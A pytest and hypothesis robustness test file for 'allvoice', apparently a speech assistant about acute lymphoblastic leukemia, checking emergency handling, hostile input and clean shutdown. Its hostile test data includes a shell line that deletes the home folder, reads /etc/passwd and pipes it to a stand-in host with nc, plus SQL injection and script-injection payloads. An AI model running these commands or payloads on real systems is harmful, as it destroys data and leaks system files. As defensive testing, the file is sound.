"""Robustness of text input: any text through ``understand`` and whole conversations
(hypothesis), hostile lines through the command line, and Ctrl-C / end of input.

Nothing here may end in a traceback, an empty reply, an unknown intent id, a speech rate
or volume out of range, or wording that sounds like a diagnosis.
"""

# ruff: noqa: RUF001  (full-width letters and question marks are the point here)

from __future__ import annotations

import json
import os
import re
import select
import shutil
import signal
import subprocess
import sys
import time
import tomllib
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from wording import DIAGNOSTIC, EMERGENCY_START

from allvoice.content.pack import Pack
from allvoice.conversation.session import Conversation, Turn
from allvoice.understanding import Model, understand

README = Path(__file__).resolve().parent.parent / "README.md"


def documented_intents() -> frozenset[str]:
    """The intent ids the README's ``--json`` table documents."""
    for line in README.read_text(encoding="utf-8").splitlines():
        if line.startswith("| `intent` |"):
            return frozenset(re.findall(r"`([a-z_]+)`", line)) - {"intent"}
    raise AssertionError("README has no `intent` row in its --json table")


DOCUMENTED_INTENTS = documented_intents()
NEWER_CONTROLS = frozenset(["previous", "read_all", "repeat_all", "resume", "spell", "start_over"])
"""Screen-reader controls added after the README's table was written (see the xfail below)."""
KNOWN_INTENTS = DOCUMENTED_INTENTS | NEWER_CONTROLS
FIELDS = {
    "heard", "intent", "topic", "section", "symptoms", "other_signs", "reply", "asks", "rate",
    "volume", "end",
}  # fmt: skip
EMERGENCIES = (
    "my little girl cannot breathe",
    "he has stopped breathing",
    "her nose will not stop bleeding",
    "my dad collapsed and won't wake up",
    "my wife has bad chest pain",
    "my son's lips are turning blue",
    "she is having a seizure",
    "i cant breath",
)
PROPERTY = settings(
    max_examples=300,
    deadline=None,
    derandomize=True,  # the same examples every run: a failure is never a fluke
    database=None,  # write nothing into the working tree
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


def diagnostic_wording(reply: str, heard: str = "") -> list[str]:
    """The diagnostic phrases in ``reply`` (lower-cased, curly quotes folded).

    The echo of a not-understood utterance ("I heard: ...") is left out here: it repeats
    the user's words, and is tested on its own below."""
    text = reply.replace("\u2019", "'")
    if heard:
        text = text.replace(f"I heard: {heard}.", "")
    lowered = text.lower()
    return [phrase for phrase in DIAGNOSTIC if phrase in lowered]


def control_characters(text: str) -> list[str]:
    return [ch for ch in text if unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Co", "Cn")]


def check_turn(turn: Turn) -> None:
    """What every single reply must satisfy, whatever was said."""
    reply = turn.reply.text
    assert turn.intent in KNOWN_INTENTS, turn.intent
    assert turn.understanding.intent in KNOWN_INTENTS, turn.understanding.intent
    assert reply.strip(), "empty reply"
    assert "Traceback" not in reply
    assert not control_characters(reply), repr(reply)
    assert 80 <= turn.state.rate <= 450
    assert 0.0 <= turn.state.volume <= 1.0
    assert not diagnostic_wording(reply, turn.understanding.heard), reply
    obj = turn.as_json()
    assert set(obj) == FIELDS
    json.dumps(obj, ensure_ascii=False).encode("utf-8")  # no lone surrogates reach output


# --- Strategies ----------------------------------------------------------------------

SPECIAL = (
    "\x00\x01\x07\x08\t\x0b\x0c\x1b\x7f\x85\xa0\u200b\u200d\u200e\u200f\u202e\u2028\u2029"
    "\ufeff\ufffd\u0301\u0336"
)
EMOJI = "😀🩸🤒🤕😷🚑❤️👶🏽🫁🧠🦴💉🧪🧬⚕️"
RTL = "مرحبا هل هو سرطان الدم شالום מה זה לוקמיה ילד חום"
FULL_WIDTH = "ｗｈａｔ ｉｓ ＡＬＬ ｆｅｖｅｒ ｓｌｏｗｅｒ ＦＡＳＴＥＲ ０１２３"
CJK = "什么是急性淋巴细胞白血病发烧骨痛"
ODD_TOKENS = (
    "%s", "%n", "{0}", "{}", "${HOME}", "$(id)", "`ls`", "'; DROP TABLE x; --", "<b>",
    "\x1b[31m", "-5", "1e308", "99999999999", "0x41", "NaN", "inf", "-0", "..", "'''",
    "it's", "don't", "can't", "s", "'", "\\", "\\n", "null", "None", "true",
)  # fmt: skip
WORDS = (
    "what is all leukemia acute lymphocytic symptoms signs causes risk factors sources "
    "doctor when see inherited fever bone pain bleeding gums nosebleeds pale tired tiredness "
    "lump neck infections breath my son daughter has have had for two three days weeks "
    "months years since yesterday getting better worse same yes no not sure maybe "
    "more repeat stop faster slower louder softer help goodbye bye first second other "
    "how long why who treatment cure weather you i he she it they previous back resume "
    "continue read everything start over again spell spelled do word"
).split()


@st.composite
def salad(draw: st.DrawFn) -> str:
    """Words the assistant knows, controls and odd tokens: reaches the deep paths."""
    pool = st.sampled_from(WORDS + list(ODD_TOKENS))
    return " ".join(draw(st.lists(pool, max_size=14)))


ANY_TEXT = st.one_of(
    st.text(),  # every code point but surrogates, control characters included
    st.text(alphabet=st.sampled_from(SPECIAL + EMOJI + RTL + FULL_WIDTH + CJK + "ab ")),
    st.text(alphabet=st.characters(max_codepoint=0x1F), max_size=40),
    salad(),
    st.tuples(salad(), st.text(max_size=20), salad()).map(" ".join),
    st.text(min_size=480, max_size=2500),
    st.text(alphabet="ab xyz", min_size=490, max_size=1200),
)


# --- understand(): any text ----------------------------------------------------------


@PROPERTY
@given(text=ANY_TEXT)
def test_understand_gives_a_known_intent_for_any_text(text: str, model: Model) -> None:
    heard = understand(text, model)
    assert heard.intent in KNOWN_INTENTS, heard.intent
    assert isinstance(heard.heard, str)
    assert not control_characters(heard.heard), repr(heard.heard)
    assert heard.section is None or heard.section in model.pack.section_ids
    assert 0.0 <= heard.confidence <= 1.0
    if heard.duration is not None and heard.duration.days is not None:
        assert 0.0 <= heard.duration.days <= 36500.0


@pytest.mark.parametrize("text", ["i am 52", "she is 7", "my 5 year old", "im 30 years old"])
def test_an_age_said_alone_gives_a_known_intent(text: str, model: Model) -> None:
    """An age is left out of what a question asks; said alone, nothing is left."""
    assert understand(text, model).intent in KNOWN_INTENTS


# --- Whole conversations: any sequence of texts --------------------------------------


@PROPERTY
@given(texts=st.lists(ANY_TEXT, min_size=1, max_size=8))
def test_any_conversation_gives_sound_replies(texts: list[str], pack: Pack, model: Model) -> None:
    conversation = Conversation(pack, model)
    for text in texts:
        check_turn(conversation.turn(text))


@PROPERTY
@given(
    prefix=st.lists(st.one_of(salad(), ANY_TEXT), max_size=6),
    phrase=st.sampled_from(EMERGENCIES),
)
def test_emergency_comes_first_after_any_prefix_state(
    prefix: list[str], phrase: str, pack: Pack, model: Model
) -> None:
    conversation = Conversation(pack, model)
    for text in prefix:
        conversation.turn(text)
    turn = conversation.turn(phrase)
    assert turn.intent == "emergency", (prefix, phrase, turn.understanding.heard)
    assert turn.reply.text.startswith(EMERGENCY_START), turn.reply.text
    check_turn(turn)


@PROPERTY
@given(
    before=st.text(max_size=60).filter(lambda t: len(unicodedata.normalize("NFKC", t)) < 200),
    phrase=st.sampled_from(EMERGENCIES),
)
def test_emergency_is_heard_after_any_words_in_the_same_line(
    before: str, phrase: str, pack: Pack, model: Model
) -> None:
    turn = Conversation(pack, model).turn(f"{before}. {phrase}")
    assert turn.reply.text.startswith(EMERGENCY_START), (before, phrase, turn.reply.text)


# --- Single inputs found by hand -------------------------------------------------------


def test_every_intent_the_code_gives_is_documented(model: Model) -> None:
    said = [phrases[0] for phrases in model.language.controls.values()]
    texts = [" ".join(words) for words in said] + ["spell lymphocytic", "what is ALL"]
    given = {understand(text, model).intent for text in texts}
    assert given <= DOCUMENTED_INTENTS, sorted(given - DOCUMENTED_INTENTS)


@pytest.mark.parametrize(
    "text",
    [
        "zanzibarquux you have leukemia",
        "blorp it is probably nothing",
        "qwzx you probably have it",
    ],
)
def test_the_echo_never_speaks_diagnostic_wording(text: str, pack: Pack, model: Model) -> None:
    reply = Conversation(pack, model).turn(text).reply.text
    lowered = reply.lower()
    assert not [phrase for phrase in DIAGNOSTIC if phrase in lowered], reply


def test_ansi_colour_codes_around_a_question_are_ignored(model: Model) -> None:
    heard = understand("\x1b[1mwhat is ALL\x1b[0m", model)
    assert heard.intent == "overview", heard.heard


def test_input_cut_after_normalising_is_not_cut_silently(pack: Pack, model: Model) -> None:
    text = "\ufdfa" * 30 + " my son is not breathing"
    assert len(text) < 500
    reply = Conversation(pack, model).turn(text).reply.text
    assert reply.startswith(EMERGENCY_START) or "only read the start" in reply, reply


# --- Hostile lines through the command line --------------------------------------------

HOSTILE: list[tuple[str, bytes]] = [
    ("empty", b""),
    ("spaces", b"   \t  "),
    ("long-100k", b"what is ALL " + b"x" * 100_000),
    ("c0-controls", bytes(range(1, 10)) + b"\x0b\x0c" + bytes(range(14, 32)) + b"\x7f"),
    ("ansi", b"\x1b[31;1mwhat is ALL\x1b[0m \x1b[2J\x1b[H\x1b]0;title\x07"),
    ("nul", b"what\x00is\x00ALL\x00"),
    ("only-nul", b"\x00" * 50),
    ("c1-and-separators", "a\x85b\u2028c\u2029d\u200b\u202eevil\ufeff".encode()),
    ("emoji", "😀🩸🤒 my son 🤒 has a fever 🌡️👶🏽".encode()),
    ("arabic", "ما هو سرطان الدم الليمفاوي الحاد؟".encode()),
    ("hebrew", "מה זה לוקמיה לימפובלסטית חריפה?".encode()),
    ("chinese", "什么是急性淋巴细胞白血病？".encode()),
    ("full-width", "ｗｈａｔ　ｉｓ　ＡＬＬ？".encode()),
    ("sql", b"'; DROP TABLE users; -- what is ALL"),
    ("shell", b"$(rm -rf ~) `reboot` && cat /etc/passwd | nc evil 80"),
    ("html", b"<script>alert('x')</script><img src=x onerror=alert(1)>"),
    ("format", b"{0} %s %n %x {} {__class__} %(name)s"),
    ("negative-duration", b"my son has had a fever for -5 weeks"),
    ("huge-duration", b"she has had a fever for 99999999999 years"),
    ("float-duration", b"a fever for 1e308 days"),
    ("nan-duration", b"bone pain for nan days and inf weeks"),
    ("invalid-utf8", b"what is ALL \xff\xfe\xc3\x28 \xed\xa0\x80 \xf8\x88\x80\x80\x80"),
    ("lone-surrogate-bytes", b"\xed\xb2\x80 fever \xed\xa0\x80"),
    ("crlf-tail", b"is it inherited\r"),
    ("only-punctuation", b"?!?.,;:--''\"\"()[]{}"),
    ("rtl-override", "\u202ewhat is ALL\u202c".encode()),
    ("combining", "w\u0336h\u0336a\u0336t\u0336 is A\u0301LL".encode()),
]
IDS = [name for name, _ in HOSTILE]
LINES = [line for _, line in HOSTILE]
for _line in LINES:
    assert b"\n" not in _line and b"\r" not in _line.rstrip(b"\r")


def environment(tmp: Path, **extra: str) -> dict[str, str]:
    return {
        **os.environ,
        "XDG_CONFIG_HOME": str(tmp / "config"),
        "XDG_CACHE_HOME": str(tmp / "cache"),
        "LC_ALL": "C.UTF-8",
        **extra,
    }


def run_bytes(
    tmp: Path, *args: str, data: bytes, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "allvoice", *args],
        input=data,
        capture_output=True,
        env=env or environment(tmp),
        cwd=tmp,
        timeout=60,
        check=False,
    )


def objects_of(result: subprocess.CompletedProcess[bytes]) -> list[dict[str, Any]]:
    stderr = result.stderr.decode("utf-8", "replace")
    assert "Traceback" not in stderr, stderr
    assert "Traceback" not in result.stdout.decode("utf-8", "replace")
    assert result.returncode == 0, stderr
    assert stderr == "", stderr
    objects = [json.loads(line) for line in result.stdout.decode("utf-8").splitlines()]
    assert all(isinstance(obj, dict) for obj in objects)
    return objects


@pytest.fixture(scope="module")
def hostile_runs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[dict[str, Any]]]:
    """Every hostile line through ``--text --json`` (one conversation) and ``ask --json``."""
    tmp = tmp_path_factory.mktemp("hostile")
    data = b"\n".join(LINES) + b"\n"
    text = objects_of(run_bytes(tmp, "--text", "--json", data=data))
    ask = objects_of(run_bytes(tmp, "ask", "--json", data=data))
    return {"text": text, "ask": ask}


@pytest.mark.parametrize("mode", ["text", "ask"])
def test_one_object_per_hostile_line(
    hostile_runs: dict[str, list[dict[str, Any]]], mode: str
) -> None:
    assert len(hostile_runs[mode]) == len(LINES), [o["heard"][:40] for o in hostile_runs[mode]]


@pytest.mark.parametrize("mode", ["text", "ask"])
@pytest.mark.parametrize("index", range(len(HOSTILE)), ids=IDS)
def test_hostile_line_gets_a_sound_reply(
    hostile_runs: dict[str, list[dict[str, Any]]], mode: str, index: int
) -> None:
    objects = hostile_runs[mode]
    assert index < len(objects), "no reply for this line"
    obj = objects[index]
    assert set(obj) == FIELDS
    assert obj["intent"] in KNOWN_INTENTS
    assert isinstance(obj["reply"], str) and obj["reply"].strip()
    assert not control_characters(obj["reply"]), repr(obj["reply"])
    assert not control_characters(obj["heard"]), repr(obj["heard"])
    assert 80 <= obj["rate"] <= 450
    assert 0.0 <= obj["volume"] <= 1.0
    assert obj["end"] is False
    assert not diagnostic_wording(obj["reply"], obj["heard"]), obj["reply"]
    if IDS[index] == "long-100k":
        assert "only read the start" in obj["reply"]
    else:
        assert "only read the start" not in obj["reply"]


def test_hostile_durations_do_not_leak_into_the_advice(tmp_path: Path) -> None:
    """A follow-up with absurd durations ends in ordinary advice, in words a voice can say."""
    for duration in ("for -5 weeks", "for 99999999999 years", "for 1e308 days"):
        lines = f"my son has a fever {duration}\nno\n".encode()
        objects = objects_of(run_bytes(tmp_path, "--text", "--json", data=lines))
        assert len(objects) == 2
        advice = " ".join(str(obj["reply"]) for obj in objects)  # long ones get it at once
        assert "appointment" in advice, advice
        assert "e308" not in advice and "-5" not in advice, advice


@pytest.fixture(scope="module")
def strict_locale(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """An ordinary desktop UTF-8 locale, where Python's stdin decodes strictly."""
    folder = tmp_path_factory.mktemp("locale")
    if shutil.which("localedef"):
        made = subprocess.run(
            ["localedef", "-i", "en_US", "-f", "UTF-8", str(folder / "en_US.UTF-8")],
            capture_output=True,
            check=False,
        )
        if (folder / "en_US.UTF-8").exists() and made.returncode in (0, 1):
            return {"LOCPATH": str(folder), "LC_ALL": "en_US.UTF-8", "LANG": "en_US.UTF-8"}
    # Same effect as a desktop UTF-8 locale: stdin decodes UTF-8 with errors="strict".
    return {"PYTHONIOENCODING": "utf-8"}


@pytest.mark.parametrize("args", [["--text", "--json"], ["ask", "--json"]], ids=" ".join)
def test_invalid_utf8_on_stdin_in_a_desktop_locale(
    tmp_path: Path, strict_locale: dict[str, str], args: list[str]
) -> None:
    env = environment(tmp_path, **strict_locale)
    if "PYTHONIOENCODING" in strict_locale:
        env.pop("LC_ALL")
    result = run_bytes(tmp_path, *args, data=b"what is ALL \xff\xfe\nmore\n", env=env)
    assert len(objects_of(result)) == 2


# --- Ctrl-C and end of input -----------------------------------------------------------


def read_line(stream: Any, timeout: float) -> bytes:
    """One line from a child's pipe, or fail after ``timeout`` seconds."""
    ready, _, _ = select.select([stream], [], [], timeout)
    assert ready, "no output in time"
    return bytes(stream.readline())


@pytest.fixture
def text_mode(tmp_path: Path) -> Iterator[subprocess.Popen[bytes]]:
    process = subprocess.Popen(
        [sys.executable, "-m", "allvoice", "--text"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=environment(tmp_path),
        cwd=tmp_path,
    )
    try:
        yield process
    finally:
        if process.poll() is None:
            process.kill()
        process.wait(timeout=10)
        for stream in (process.stdin, process.stdout, process.stderr):
            if stream is not None and not stream.closed:
                stream.close()


def ask_and_wait(process: subprocess.Popen[bytes], line: bytes) -> bytes:
    assert process.stdin is not None and process.stdout is not None
    process.stdin.write(line + b"\n")
    process.stdin.flush()
    return read_line(process.stdout, 30)


def test_ctrl_c_while_waiting_for_input(text_mode: subprocess.Popen[bytes]) -> None:
    assert text_mode.stdout is not None and text_mode.stderr is not None
    assert b"allvoice" in read_line(text_mode.stdout, 30), "the welcome"
    assert ask_and_wait(text_mode, b"what is ALL").strip()
    time.sleep(0.3)  # now blocked reading the next line
    started = time.monotonic()
    text_mode.send_signal(signal.SIGINT)
    text_mode.wait(timeout=5)
    assert time.monotonic() - started < 5
    out, err = text_mode.stdout.read(), text_mode.stderr.read()
    assert b"Traceback" not in err + out, err.decode(errors="replace")
    assert text_mode.returncode in (0, 130), text_mode.returncode


def test_ctrl_c_keeps_a_spoken_setting_change(
    tmp_path: Path, text_mode: subprocess.Popen[bytes]
) -> None:
    assert text_mode.stdout is not None
    read_line(text_mode.stdout, 30)
    assert b"slower" in ask_and_wait(text_mode, b"slower").lower()
    time.sleep(0.3)
    text_mode.send_signal(signal.SIGINT)
    text_mode.wait(timeout=5)
    path = tmp_path / "config" / "allvoice" / "settings.toml"
    assert path.exists(), "the slower rate was lost"
    assert tomllib.loads(path.read_text(encoding="utf-8")) == {"rate": 150}


def test_end_of_input_ends_cleanly(text_mode: subprocess.Popen[bytes]) -> None:
    assert text_mode.stdin is not None and text_mode.stdout is not None
    assert text_mode.stderr is not None
    read_line(text_mode.stdout, 30)
    assert ask_and_wait(text_mode, b"is it inherited").strip()
    text_mode.stdin.close()
    text_mode.wait(timeout=5)
    err = text_mode.stderr.read()
    assert b"Traceback" not in err, err.decode(errors="replace")
    assert text_mode.returncode == 0
